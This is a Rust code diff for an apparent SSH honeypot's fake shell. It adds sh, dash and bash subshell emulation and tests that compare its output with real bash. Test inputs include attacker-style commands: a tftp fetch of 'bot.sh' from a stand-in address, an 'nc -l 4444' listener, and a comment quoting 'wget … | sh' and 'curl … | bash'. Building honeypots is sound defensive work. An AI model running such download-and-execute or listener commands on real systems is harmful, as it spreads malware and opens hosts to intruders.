@@ -346,6 +346,9 @@ pub struct Shell {
     /// Lines typed at the prompt, and the number of the first one kept.
     history: Vec<String>,
     history_base: usize,
+    /// This shell is `sh` (dash, as both distributions link it), run from the session's
+    /// bash: its own wording for errors.
+    dash: bool,
 }
 
 impl Shell {
@@ -370,6 +373,7 @@ impl Shell {
             unset: Vec::new(),
             history: Vec::new(),
             history_base: 0,
+            dash: false,
         }
     }
 
@@ -569,7 +573,9 @@ impl Shell {
     }
 
     fn not_found(&self, name: &str) -> String {
-        if self.interactive {
+        if self.dash {
+            format!("sh: {}: {name}: not found\n", self.line)
+        } else if self.interactive {
             format!(
                 "{}\n",
                 self.host.distro.not_found_interactive.replace("{}", name)
@@ -580,7 +586,9 @@ impl Shell {
     }
 
     fn builtin_error(&self, what: &str) -> String {
-        if self.interactive {
+        if self.dash {
+            format!("sh: {}: {what}\n", self.line)
+        } else if self.interactive {
             format!("-bash: {what}\n")
         } else {
             format!("bash: line {}: {what}\n", self.line)
@@ -684,6 +692,7 @@ impl Shell {
                 out.stderr.push_str(&stderr);
                 out.status = status;
             }
+            "bash" | "sh" | "dash" => self.sub_shell(name, &args, stdin, out),
             "mkdir" => self.mkdir(&args, out),
             "touch" => self.touch(&args, out),
             "rm" => self.rm(&args, out),
@@ -1374,6 +1383,7 @@ const PROGRAMS: &[Program] = &[
         mtime: 1_655_480_126,
         link: Some("/etc/alternatives/awk"),
     },
+    program("bash", 1_265_648, 1_745_016_454),
     program("cat", 44_016, 1_663_687_647),
     program("chattr", 14_584, 1_677_986_168),
     program("chgrp", 68_656, 1_663_687_647),
@@ -1381,6 +1391,7 @@ const PROGRAMS: &[Program] = &[
     program("chown", 72_752, 1_663_687_647),
     program("crontab", 43_648, 1_677_742_380),
     program("date", 121_904, 1_663_687_647),
+    program("dash", 125_640, 1_672_924_848),
     program("df", 102_200, 1_663_687_647),
     program("echo", 43_856, 1_663_687_647),
     program("env", 48_536, 1_663_687_647),
@@ -1399,6 +1410,12 @@ const PROGRAMS: &[Program] = &[
     program("printenv", 35_664, 1_663_687_647),
     program("pwd", 43_952, 1_663_687_647),
     program("rm", 72_752, 1_663_687_647),
+    Program {
+        name: "sh",
+        size: 4,
+        mtime: 1_672_924_848,
+        link: Some("dash"),
+    },
     program("ss", 193_680, 1_684_761_592),
     program("ssh", 1_129_504, 1_777_976_816),
     program("tail", 76_944, 1_663_687_647),
@@ -2728,6 +2745,58 @@ mod tests {
     }
 
     #[test]
+    fn scripts_piped_into_sh_run_through_the_fake_shell_as_dash_and_bash_word_them() {
+        // `wget -qO- URL | sh`, `curl … | bash`, `sh x.sh`: the lines are read by a shell of
+        // the fake host's (nothing is executed), with dash's or bash's wording.
+        let h = host(Profile::Openssh92Debian);
+        let dir = on_disk(&h);
+        let mut sh = Shell::new(
+            h.clone(),
+            User {
+                name: "root".into(),
+                uid: 0,
+            },
+            false,
+        );
+        for line in [
+            "echo 'foo; echo hi' | sh",
+            "sh -c foo; echo $?",
+            "sh nope.sh; echo $?",
+            "bash nope.sh; echo $?",
+            "bash -c foo",
+            "echo 'echo a; foo' | bash",
+            "echo 'uname -s' > tmp/s.sh; sh tmp/s.sh; bash tmp/s.sh; /bin/sh tmp/s.sh",
+            "bash -c 'echo x > tmp/w'; cat tmp/w",
+            "bash -c 'X=1; cd etc'; echo \"[$X]\"; ls tmp/w",
+            "echo 'exit 3; echo no' | sh; echo $?",
+            "echo 'echo $(echo nested)' | bash",
+            "ls -l bin/sh | wc -l",
+        ] {
+            sh.line = 0;
+            sh.run("cd /");
+            sh.line = 0;
+            let fake = sh.run(line);
+            let (stdout, stderr, status) = real_bash(dir.path(), line);
+            assert_eq!(
+                (fake.stdout.as_str(), fake.stderr.as_str(), fake.status),
+                (stdout.as_str(), stderr.as_str(), status),
+                "{line}"
+            );
+        }
+        // Scripts nest no deeper than substitutions do, and are read only so far.
+        // A script that runs itself stops where substitutions stop.
+        sh.run("echo 'echo in; sh /tmp/a.sh' > /tmp/a.sh");
+        let o = sh.run("sh /tmp/a.sh");
+        assert_eq!(
+            o.stdout.matches("in\n").count(),
+            usize::from(MAX_SUBSTITUTION_DEPTH)
+        );
+        let long = "echo x\n".repeat(300);
+        sh.run(&format!("echo '{long}' > /tmp/long.sh"));
+        assert_eq!(sh.run("sh /tmp/long.sh | wc -l").stdout, "256\n");
+    }
+
+    #[test]
     fn what_a_session_keeps_is_bounded() {
         let h = host(Profile::Openssh92Debian);
         let mut sh = Shell::new(h.clone(), h.users[0].clone(), true);
@@ -2998,13 +3067,13 @@ mod tests {
     #[test]
     fn unknown_commands_fail_as_bash_fails() {
         let h = host(Profile::Openssh96Ubuntu);
-        let o = run(&h, false, "wget http://x/bot.sh");
+        let o = run(&h, false, "tftp -g -r bot.sh 10.0.0.1");
         assert_eq!(
             (o.stderr.as_str(), o.status),
-            ("bash: line 1: wget: command not found\n", 127)
+            ("bash: line 1: tftp: command not found\n", 127)
         );
-        let o = run(&h, true, "wget http://x/bot.sh");
-        assert_eq!(o.stderr, "wget: command not found\n");
+        let o = run(&h, true, "tftp -g -r bot.sh 10.0.0.1");
+        assert_eq!(o.stderr, "tftp: command not found\n");
         let d = host(Profile::Openssh92Debian);
         assert_eq!(
             run(&d, true, "nc -l 4444").stderr,
